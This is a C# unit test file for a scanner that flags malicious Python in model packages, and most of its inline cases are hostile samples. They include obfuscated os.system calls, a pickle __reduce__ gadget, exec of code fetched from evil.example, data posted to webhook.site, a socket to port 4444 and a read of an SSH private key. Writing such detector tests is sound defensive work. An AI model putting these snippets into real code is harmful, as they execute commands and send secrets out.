using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Judging;

namespace SupplyChainAnalyzers.Scanner.Tests.Judging;

public class PythonSourceTests
{
    [Theory]
    [InlineData("import os\nos.system('id')")]
    [InlineData("import os as o; o.popen('id')")]
    [InlineData("from os import system as s\ns('id')")]
    [InlineData("from os import *\nsystem('id')")]
    [InlineData("import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])")]
    [InlineData("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))")]
    [InlineData("__import__('os').system('id')")]
    [InlineData("getattr(__import__('o'+'s'), 'sys'+'tem')('id')")]
    [InlineData("import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('id')")]
    [InlineData("__builtins__['eval']('__import__(\"os\").system(\"id\")')")]
    [InlineData("globals()['__builtins__'].exec('import os; os.system(1)')")]
    [InlineData("import sys\nsys.modules['os'].system('id')")]
    [InlineData("import os\nvars(os)['system']('id')")]
    [InlineData("import os\nos.__dict__['sys' + 'tem']('id')")]
    [InlineData("e = exec\ne('import os; os.system(1)')")]
    [InlineData("import os\nif True:\n    run = os.system\n    run('id')")]
    [InlineData("import os\nrun = os.system\nif False:\n    run = None\nrun('id')")]
    [InlineData("import os\ndef f():\n    os.system('id')\nf()")]
    [InlineData("import os\nclass A:\n    def __init__(self):\n        os.system('id')\na = A()")]
    [InlineData("import os\nclass A:\n    os.system('id')")]
    [InlineData("import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))")]
    [InlineData("import os\nx = f\"{os.system('id')}\"")]
    [InlineData("import os\nclass M:\n    def forward(self, x):\n        os.system('id')\n        return x")]
    [InlineData("import os\ndef f(a=os.system('id')): pass")]
    [InlineData("import os\nx = [os.system('id') for _ in range(1)]")]
    [InlineData("import os\n(lambda: os.system('id'))()")]
    [InlineData("import os\n@os.system\ndef f(): pass")]
    [InlineData("import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()")]
    [InlineData("import zlib\nexec(zlib.decompress(open('x','rb').read()))")]
    [InlineData("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))")]
    [InlineData("exec('metsys.so tropmi'[::-1])\nexec(''.join(['import ', 'os;', 'os.system(1)']))")]
    [InlineData("import urllib.request as u\nexec(u.urlopen('http://evil.example/x').read())")]
    [InlineData("import requests\nrequests.post('https://webhook.site/x', data=1)")]
    [InlineData("def f():\n    import requests\n    requests.post('https://webhook.site/x', data=1)")]
    [InlineData("import socket\ns=socket.socket(); s.connect(('10.0.0.1', 4444))")]
    [InlineData("open('/home/u/.ssh/id_rsa').read()")]
    [InlineData("# -*- coding: utf_7 -*-\n+AG8-")]
    [InlineData("exec(compile(__import__('base64').b64decode(b'aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='), '', 'exec'))")]
    [InlineData("import torch\ntorch.serialization.os.system('id')")]
    [InlineData("import os\nos.system(\n  'id'\n)")]
    [InlineData("import o\\\ns\nimport os\nos \\\n . system('id')")]
    [InlineData("import os\nｏｓ.ｓｙｓｔｅｍ('id')")]
    [InlineData("exec(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,49,41]))")]
    public void Harm_at_import_or_use_is_malicious(string source) => Assert.True(PythonSource.Judge(source).Any(static finding => finding.Severity >= Severity.High), source);

    [Theory]
    [InlineData("import subprocess\ndef version():\n    return subprocess.check_output(['sh', 'version.sh'])")]
    [InlineData("import ctypes\ndef f():\n    return ctypes.CDLL('libx.so')")]
    [InlineData("def f(text):\n    return eval(text)")]
    [InlineData("import pickle\nx = pickle.load(open('x', 'rb'))")]
    public void What_may_be_meant_well_needs_a_look(string source) => Assert.InRange(PythonSource.Judge(source).Max(static finding => finding.Severity), Severity.Low, Severity.Medium);

    [Theory]
    [InlineData("import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.l = nn.Linear(2, 2)\n    def forward(self, x):\n        return self.l(x)")]
    [InlineData("import os, json, math, logging\nlogger = logging.getLogger(__name__)\nHOME = os.environ.get('HF_HOME', os.path.join(os.path.expanduser('~'), '.cache'))\ndef load(p):\n    with open(os.path.join(p, 'config.json')) as f:\n        return json.load(f)")]
    [InlineData("import warnings\nfrom dataclasses import dataclass\nfrom einops import rearrange\n@dataclass\nclass C:\n    a: int = 1\nwarnings.warn('x')")]
    [InlineData("from transformers import AutoModel\nmodel = AutoModel.from_pretrained('x/y')\nmodel.eval()\nprint(model.compile())")]
    [InlineData("import re\nfrom torch import compile\np = re.compile('x')\ndef f(input, open=None):\n    return input(open)")]
    [InlineData("'''os.system(\"id\")'''\n# os.system('id')\nx = \"exec(eval('x'))\"")]
    [InlineData("import importlib.util\nHAS = importlib.util.find_spec('flash_attn') is not None\nm = importlib.import_module('torch')")]
    [InlineData("def eval(model, loader):\n    pass\neval(1, 2)")]
    [InlineData("import numpy as np\nx = np.load\ny = getattr(np, 'float32')\nsetattr(x, 'a', 1)")]
    [InlineData("if __name__ == '__main__':\n    import argparse\n    p = argparse.ArgumentParser()\n    p.add_argument('--x', type=eval)")]
    [InlineData("")]
    public void Code_of_models_as_people_write_it_is_clean(string source) => Assert.DoesNotContain(PythonSource.Judge(source), static finding => finding.Severity >= Severity.Medium);

    [Fact]
    public void Broken_code_is_read_to_its_end() => Assert.NotEmpty(PythonSource.Judge("x = = 3\n?? $$ def\n  import os\n]]\nos.system('id')"));

    [Fact]
    public void Depth_and_length_are_limited()
    {
        Assert.NotEmpty(PythonSource.Judge(new string('(', 100_000) + "1"));
        Assert.NotEmpty(PythonSource.Judge(string.Concat(Enumerable.Repeat("if a:", 10_000))));
        Assert.NotEmpty(PythonSource.Judge(string.Concat(Enumerable.Repeat("lambda:", 10_000))));
        Assert.Empty(PythonSource.Judge(string.Concat(Enumerable.Repeat("x.", 100_000)) + "y"));
        Assert.Empty(PythonSource.Judge(string.Concat(Enumerable.Repeat("a=", 50_000)) + "y"));
        Assert.Empty(PythonSource.Judge(string.Concat(Enumerable.Repeat("a;", 50_000)) + "y"));
    }

    [Fact]
    public void Mutations_of_source_never_throw()
    {
        string[] seeds = ["import os as o; o.popen(f'{x}')\n@d\nclass A(b, c=lambda: 1):\n    def f(self, *a, **k) -> int: return (yield a[::-1]) + 'x\\x41' 'y'\nfor i in x: pass\nwith open('a') as f: exec(f.read())", "from a.b import (c as d, e)\nx: int = y = [1, 2][0]\nif __name__ == '__main__': z()\n"];
        var random = new Random(7);
        const string Letters = "()[]{}:;,.=+%@'\"\\\n\t #*-lambdefimportxosclas0123";
        for (var round = 0; round < 4000; round++)
        {
            var text = seeds[random.Next(seeds.Length)].ToCharArray();
            for (var change = random.Next(1, 12); change > 0; change--)
                text[random.Next(text.Length)] = Letters[random.Next(Letters.Length)];
            PythonSource.Judge(new string(text, 0, random.Next(text.Length)));
        }
    }
}
